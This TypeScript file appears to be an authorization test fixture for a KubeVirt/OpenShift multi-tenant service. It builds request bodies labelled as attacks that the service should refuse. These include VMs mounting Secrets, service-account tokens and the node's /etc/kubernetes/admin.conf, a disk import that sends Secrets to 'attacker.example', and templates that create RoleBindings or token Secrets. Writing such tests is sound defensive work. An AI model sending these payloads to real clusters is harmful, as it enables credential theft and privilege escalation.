/**
 * Objects that make the cluster act for whoever writes them: a guest gets the Secrets, tokens and claims that its VM
 * names, CDI sends Secrets to the address that a disk is imported from, and OpenShift creates what a TemplateInstance
 * contains.
 */
import type { Attack } from './attack.ts';
import type { Unstructured } from '../../packages/kube/src/object.ts';
import { looseDefinition } from '../fleet/definition.ts';

const kubevirt = '/apis/kubevirt.io/v1';
const cdi = '/apis/cdi.kubevirt.io/v1beta1';

/** The kinds that the attacks write, as far as a kube-apiserver does not serve them. */
export const attackedKinds: readonly Unstructured[] = [
  looseDefinition('kubevirt.io', 'v1', 'VirtualMachine', 'virtualmachines'),
  looseDefinition('kubevirt.io', 'v1', 'VirtualMachineInstance', 'virtualmachineinstances'),
  looseDefinition('cdi.kubevirt.io', 'v1beta1', 'DataVolume', 'datavolumes'),
  looseDefinition('k8s.cni.cncf.io', 'v1', 'NetworkAttachmentDefinition', 'network-attachment-definitions'),
  looseDefinition('template.openshift.io', 'v1', 'TemplateInstance', 'templateinstances'),
];

type Json = Readonly<Record<string, unknown>>;

const metadata = { generateName: 'attack-', labels: { 'ssvirt.io/parent-uid': 'any' } };
const instance = (volumes: readonly Json[], more: Json = {}): Json => ({
  domain: {},
  volumes: volumes.map((volume, at) => ({ name: `volume-${at}`, ...volume })),
  ...more,
});

export const virtualMachine = (volumes: readonly Json[], more: Json = {}): Json => ({
  apiVersion: 'kubevirt.io/v1',
  kind: 'VirtualMachine',
  metadata,
  spec: { running: true, template: { spec: instance(volumes, more) } },
});

export const secretVolume: Json = { secret: { secretName: 'any' } };
export const cloudInit: Json = { cloudInitNoCloud: { secretRef: { name: 'any' } } };
export const disk: Json = { dataVolume: { name: 'any' } };
export const accountVolume: Json = { serviceAccount: { serviceAccountName: 'any' } };

export const vmsOf = (namespace: string): string => `${kubevirt}/namespaces/${namespace}/virtualmachines`;
export const disksOf = (namespace: string): string => `${cdi}/namespaces/${namespace}/datavolumes`;
export const claimsOf = (namespace: string): string => `/api/v1/namespaces/${namespace}/persistentvolumeclaims`;
const instancesOf = (namespace: string): string => `${kubevirt}/namespaces/${namespace}/virtualmachineinstances`;

export const dataVolume = (source: Json): Json => ({
  apiVersion: 'cdi.kubevirt.io/v1beta1',
  kind: 'DataVolume',
  metadata,
  spec: { source, storage: {} },
});

export const claim = (annotations: Readonly<Record<string, string>>): Json => ({
  apiVersion: 'v1',
  kind: 'PersistentVolumeClaim',
  metadata: { ...metadata, annotations },
  spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } },
});

const sending = { http: { url: 'https://attacker.example/', secretExtraHeaders: ['any'] } };
const importing = { 'cdi.kubevirt.io/storage.import.secretName': 'any' };

/** What carries Secrets of a namespace away. */
function carriers(namespace: string): readonly Attack[] {
  const vms: Readonly<Record<string, Json>> = {
    'a VM with a Secret': virtualMachine([secretVolume]),
    'a VM with cloud-init data': virtualMachine([disk, cloudInit]),
    'a VM with access credentials': virtualMachine([disk], {
      accessCredentials: [{ sshPublicKey: { source: { secret: { secretName: 'any' } } } }],
    }),
    'a VM with the template of a disk': {
      ...virtualMachine([disk]),
      spec: { template: { spec: instance([disk]) }, dataVolumeTemplates: [dataVolume(sending)] },
    },
  };
  return [
    ...Object.entries(vms).map(([what, body]): Attack => ({
      what: `${what} in ${namespace}`,
      method: 'POST',
      path: vmsOf(namespace),
      body,
    })),
    {
      what: `a running VM with a Secret in ${namespace}`,
      method: 'POST',
      path: instancesOf(namespace),
      body: {
        apiVersion: 'kubevirt.io/v1',
        kind: 'VirtualMachineInstance',
        metadata,
        spec: instance([secretVolume]),
      },
    },
    {
      what: `a disk whose import sends a Secret of ${namespace}`,
      method: 'POST',
      path: disksOf(namespace),
      body: dataVolume(sending),
    },
    {
      what: `a claim whose import sends a Secret of ${namespace}`,
      method: 'POST',
      path: claimsOf(namespace),
      body: claim(importing),
    },
  ];
}

const configMap = (labels: Readonly<Record<string, string>>): Json => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { generateName: 'attack-', labels },
});

interface Places {
  /** Namespaces of the cluster, and of ssvirt itself. */
  readonly system: readonly string[];
  readonly foreign: string;
  readonly vdc: string;
  readonly machines: string;
  /** It has the ConfigMap and the Service `of-another`. */
  readonly tenant: string;
}

/** Attacks that every account is refused. */
export function objectAttacks({ system, foreign, vdc, machines, tenant }: Places): readonly Attack[] {
  const post = (what: string, path: string, body: Json): Attack => ({ what, method: 'POST', path, body });
  const template = (one: Json): Json => ({
    apiVersion: 'template.openshift.io/v1',
    kind: 'TemplateInstance',
    metadata,
    spec: { template: { apiVersion: 'template.openshift.io/v1', kind: 'Template', objects: [one] } },
  });
  const templatesOf = `/apis/template.openshift.io/v1/namespaces/${vdc}/templateinstances`;
  const elsewhere = { ...virtualMachine([disk]), metadata: { name: 'attack', namespace: 'kube-system' } };
  const role = { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'attack' } };
  return [
    ...system.flatMap((namespace): readonly Attack[] => [
      ...carriers(namespace),
      post(`a VM in ${namespace}`, vmsOf(namespace), virtualMachine([disk])),
      post(`a disk in ${namespace}`, disksOf(namespace), dataVolume({ blank: {} })),
      post(`a claim in ${namespace}`, claimsOf(namespace), claim({})),
      post(
        `a network in ${namespace}`,
        `/apis/k8s.cni.cncf.io/v1/namespaces/${namespace}/network-attachment-definitions`,
        { apiVersion: 'k8s.cni.cncf.io/v1', kind: 'NetworkAttachmentDefinition', metadata, spec: { config: '{}' } },
      ),
      post(`a network policy in ${namespace}`, `/apis/networking.k8s.io/v1/namespaces/${namespace}/networkpolicies`, {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'NetworkPolicy',
        metadata,
        spec: { podSelector: {} },
      }),
      post(`a quota in ${namespace}`, `/api/v1/namespaces/${namespace}/resourcequotas`, {
        apiVersion: 'v1',
        kind: 'ResourceQuota',
        metadata,
        spec: { hard: { pods: '0' } },
      }),
      post(
        `a ConfigMap in ${namespace}`,
        `/api/v1/namespaces/${namespace}/configmaps`,
        configMap({ 'ssvirt.io/parent-uid': 'any' }),
      ),
      {
        what: `a change of a ConfigMap of ${namespace}`,
        method: 'PATCH',
        path: `/api/v1/namespaces/${namespace}/configmaps/kube-root-ca.crt`,
        body: { metadata: { labels: { 'ssvirt.io/parent-uid': 'any' } }, data: { 'ca.crt': 'any' } },
      },
    ]),
    ...carriers(foreign).map((attack): Attack => ({ ...attack, isByRoles: true })),
    ...[vdc, machines, tenant, foreign].flatMap((namespace): readonly Attack[] => [
      post(`a VM with the token of an account of ${namespace}`, vmsOf(namespace), virtualMachine([accountVolume])),
      post(
        `a VM with a file of the node in ${namespace}`,
        vmsOf(namespace),
        virtualMachine([{ hostDisk: { path: '/etc/kubernetes/admin.conf', type: 'Disk' } }]),
      ),
    ]),
    post(`a ConfigMap without our label in ${tenant}`, `/api/v1/namespaces/${tenant}/configmaps`, configMap({})),
    ...['configmaps', 'services'].flatMap((plural): readonly Attack[] => [
      {
        what: `a change of the ${plural} of others in ${tenant}`,
        method: 'PATCH',
        path: `/api/v1/namespaces/${tenant}/${plural}/of-another`,
        body: { metadata: { labels: { 'ssvirt.io/parent-uid': 'any' } } },
      },
      {
        what: `the end of the ${plural} of others in ${tenant}`,
        method: 'DELETE',
        path: `/api/v1/namespaces/${tenant}/${plural}/of-another`,
      },
    ]),
    post('a template with a VM in another namespace', templatesOf, template(elsewhere)),
    post('a template with the token of an account', templatesOf, template(virtualMachine([accountVolume]))),
    post('a template with a RoleBinding', templatesOf, template(role)),
    post(
      'a template with a service-account-token Secret',
      templatesOf,
      template({
        apiVersion: 'v1',
        kind: 'Secret',
        type: 'kubernetes.io/service-account-token',
        metadata: { name: 'attack' },
      }),
    ),
  ];
}
